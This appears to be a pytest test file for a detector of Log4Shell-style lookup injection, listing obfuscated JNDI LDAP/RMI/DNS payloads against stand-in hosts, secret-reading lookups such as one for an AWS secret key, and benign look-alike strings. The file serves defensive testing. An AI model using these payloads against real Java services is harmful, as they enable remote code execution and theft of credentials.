import pytest
from asking import asking
from lookalikes import AMBIGUOUS, PLAIN, generated

from seawall.systems.threats.detectors.lookup import DETECTOR

ask = asking(DETECTOR)

ATTACKS = (
    "${jndi:ldap://x.y/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://a.b/c}",
    "${${lower:j}ndi:${lower:l}dap://x/y}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://x}",
    "${${upper:j}ndi:rmi://x}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "${script:javascript:java.lang.Runtime}",
    "${sys:user.home}",
    "${j${k8s:k5:-ND}i:ldap://x}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
    "${java:version}",
    "${url:UTF-8:https://x}",
    "$${jndi:ldap://x}",
    "${${${::-j}ndi}:ldap://x}",
    "${jndi:dns",
)
HONEST = (
    "${variable}",
    "${user.name}",
    "${foo:-bar}",
    "`${a}:${b}`",
    "$100",
    "%{name}",
    "jndi is a Java API",
    "ldap://example.com",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_found(text):
    assert ask(text)[1] >= 0.85


@pytest.mark.parametrize("text", HONEST)
def test_what_only_looks_like_one_is_let_through(text):
    assert ask(text)[1] < 0.5


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("${jndi:ldap://x}", "lookup-jndi"),
        ("${script:js:1}", "lookup-code"),
        ("${env:X}", "lookup-value"),
        ("${${env:a}${env:b}${sys:c}}", "lookup-nested"),
    ],
)
def test_each_kind_of_attack_has_a_rule(text, rule):
    assert ask(text)[0] == rule


def test_honest_values_are_not_even_ambiguous():
    assert [text for text in PLAIN if ask(text)[1] >= 0.5] == []


def test_pasted_statements_stay_below_sure():
    assert [text for text in AMBIGUOUS if ask(text)[1] >= 0.9] == []


def test_generated_honest_values_are_not_suspected():
    suspected = [text for text in generated(1500, seed=4) if ask(text)[1] >= 0.7]
    assert suspected == []


@pytest.mark.parametrize(
    "text",
    [
        "${${unicode:006A}ndi:ldap://x.example/a}",
        "${j${unicode:U+006e}di:rmi://x.example/a}",
        "${${any:thing}ndi:ldap://x.example/a}",
        "${jn${ctx:a}i:dns://x.example}",
    ],
)
def test_letters_that_only_the_machine_knows_hide_nothing(text):
    assert ask(text) == ("lookup-jndi", 0.98)


@pytest.mark.parametrize("text", ["${${a}:x}", "${${a.b}d:x}", "${name:${other}}", "${${theme}-${size}}"])
def test_nested_variables_are_no_hidden_name(text):
    assert ask(text)[1] < 0.5


@pytest.mark.parametrize("text", ["${jndi", "x${ JNDI }", "%{jndi:", "${j${}ndi:ldap://x.example}", "${urlDecoder:a}"])
def test_what_is_cut_off_or_empty_is_found(text):
    assert ask(text)[1] >= 0.75


@pytest.mark.parametrize("text", ["${jndiName}", "${jndi.name}", "${ENV:-prod}", "${date:-today}", "jndi"])
def test_variables_with_such_names_are_let_through(text):
    assert ask(text)[1] < 0.5
